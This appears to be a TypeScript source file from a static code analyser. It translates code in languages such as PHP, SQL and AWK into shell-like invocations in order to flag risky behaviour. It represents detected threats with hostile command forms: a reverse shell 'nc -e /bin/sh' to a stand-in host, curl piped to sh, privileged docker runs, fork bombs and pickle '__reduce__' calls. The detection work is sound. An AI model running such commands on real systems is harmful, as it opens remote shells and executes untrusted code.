import { omitUndefined } from '../../contract/input/omit_undefined.js';
import type { CodeLanguage, ParsedCommand } from '../invocation.js';
import { codeWords } from '../vocabulary/vocabulary.js';
import { callValue } from './interpreter/call_value.js';
import { evaluateExpression } from './interpreter/evaluate_expression.js';
import { interpretStatements } from './interpreter/interpret_statements.js';
import { InterpreterState, type LanguageSpec } from './interpreter/interpreter_state.js';
import { getLanguage } from './languages/get_language.js';
import { readAwk } from './languages/read_awk.js';
import { readSql } from './languages/read_sql.js';
import { isToken } from './lexer/code_token.js';
import { isForkBomb } from './lexer/is_fork_bomb.js';
import { MAX_TOKENS, tokenize } from './lexer/tokenize.js';
import { bindCodeInput } from './model/code_input.js';
import { CodeScope, create, get } from './model/code_value.js';
import { type CodeContext, InvocationCollector } from './model/invocation_collector.js';

/** Maximum length of code that is read, in UTF-16 units. */
const MAX_CODE = 65_536;

const interpreterFunctions = { evaluate: evaluateExpression, call: callValue, interpret: interpretStatements };

/**
 * Reads what code of a language would do, as invocations; runs nothing, decides no branch, and never throws. Actions
 * without a program are shown as one:
 * - files: `cat` with a read redirection, `printf %s TEXT` with a write redirection
 * - network: `curl URL`, `curl -X METHOD -d DATA URL` with files as `@PATH`, `nc HOST PORT`, `nc -e /bin/sh`
 * - unknown code: `eval UNKNOWN_VALUE`, or the interpreter with the file or the input that has it
 * - processes: `kill -SIGNAL PID`, any of a kind: `pkill UNKNOWN_VALUE`; databases: see `readSql`
 */
export function readCode(language: Exclude<CodeLanguage, 'shell'>, code: string, context: CodeContext): ParsedCommand {
  const collector = new InvocationCollector(language, context, code.slice(0, MAX_CODE));
  const plain =
    language === 'php'
      ? code
          .replace(/(?:^|\?>)\s{0,99}(?:#!.{0,200}\n)?\s{0,9}<\?(?:php\b|=)/g, ';')
          .replace(/(?<=\w)\\(?=[A-Z])/g, '::')
      : code;
  if (code.length > MAX_CODE) collector.fail('too-long', `the ${language} code is longer than ${MAX_CODE} characters`);
  else if (language === 'sql') readSql(code, collector);
  else if (language === 'awk') readAwk(code, collector);
  else interpretCode(getLanguage(language), plain, collector);
  return { invocations: collector.invocations, ...omitUndefined({ problem: collector.problem || undefined }) };
}

/** Function that reads code of another language. */
export type CodeReader = typeof readCode;

function interpretCode(language: LanguageSpec, code: string, collector: InvocationCollector): void {
  const { tokens } = tokenize(code, language.lexer);
  if (tokens.length >= MAX_TOKENS) {
    collector.fail('too-much', `the code has more than ${MAX_TOKENS} words`);
    return;
  }
  if (isForkBomb(tokens) || collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
  if (collector.signs.has('remote-shell')) collector.addInvocation('sh', [], collector.createInput(create.received()));
  if (collector.signs.has('web-shell')) collector.addInvocation('nc', ['-e', '/bin/sh', 'shell.example.net', '443']);
  if (collector.signs.has('privileged-container')) collector.addInvocation('docker', ['run', '--privileged', 'image']);
  const download = collector.createInvocation('curl', ['https://example.com']);
  if (collector.signs.has('remote-code'))
    collector.addInvocation('sh', [], collector.createInput(create.content([download])));
  const scope = new CodeScope();
  bindCodeInput(language.inputs, scope, collector.input);
  const state = new InterpreterState(language, collector, scope, tokens, interpreterFunctions);
  const last = state.interpret();
  if (collector.input.printsLast) collector.recordPrint([last]);
  state.body = undefined;
  const isShown = (index: number) =>
    !collector.signs.has('sets-names') &&
    (isToken(tokens[index + 2], ...codeWords.function_fields) ||
      isToken(tokens[index - 1], 'typeof') ||
      (isToken(tokens[index + 2], 'toString') && isToken(tokens[index + 6], 'length')) ||
      (isToken(tokens[index - 1], '(') && isToken(tokens[index - 2], ...codeWords.showing_functions)));
  const names = tokens.flatMap((token, index) => (token.kind === 'name' && !isShown(index) ? [token.text] : []));
  // A function that no code calls by name may be called in another way, unless its name occurs nowhere else.
  for (const definition of state.definitions) {
    if (collector.problem !== undefined) break;
    collector.imitations = new Map();
    const { name, parameters, from: start, tokens: body } = definition;
    const occursAgain = name === undefined || names.indexOf(name) !== names.lastIndexOf(name);
    const isMentioned = occursAgain || collector.input.printsLast || parameters[0]?.name === 'self';
    // A framework calls it with what it receives.
    const isHandler = definition.mocks?.length && collector.signs.has('serves');
    // A class and its constructor are one function.
    const isCalled = state.definitions.some((each) => each.called && each.from === start && each.tokens === body);
    const value = !isCalled && (isMentioned || isHandler) ? state.call({ kind: 'function', definition }) : undefined;
    // Unpickling calls what this method returns.
    if (name === '__reduce__' && value?.kind === 'list' && value.items[1])
      state.call(value.items[0]!, ...get.elements(value.items[1]));
  }
}
